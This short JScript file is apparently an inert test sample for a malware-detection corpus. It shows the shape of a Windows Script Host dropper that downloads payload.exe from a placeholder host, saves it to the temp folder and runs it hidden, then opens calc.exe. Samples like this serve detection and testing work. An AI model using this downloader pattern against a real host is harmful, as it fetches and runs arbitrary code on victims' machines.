// Inert test dropper written for fileless-milter's behaviour corpus: the shape of a
// WSH downloader (fetch, save, run). Addresses are example.invalid; it runs calc.exe.
var url = "http://example.invalid/update/payload.exe";
var shell = new ActiveXObject("WScript.Shell");
var target = shell.ExpandEnvironmentStrings("%TEMP%") + "\\payload.exe";
var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", url, false);
http.send();
if (http.status == 200) {
    var stream = new ActiveXObject("ADODB.Stream");
    stream.Open();
    stream.Type = 1;
    stream.Write(http.ResponseBody);
    stream.SaveToFile(target, 2);
    stream.Close();
    shell.Run("cmd /c start \"\" \"" + target + "\" & calc.exe", 0, false);
}
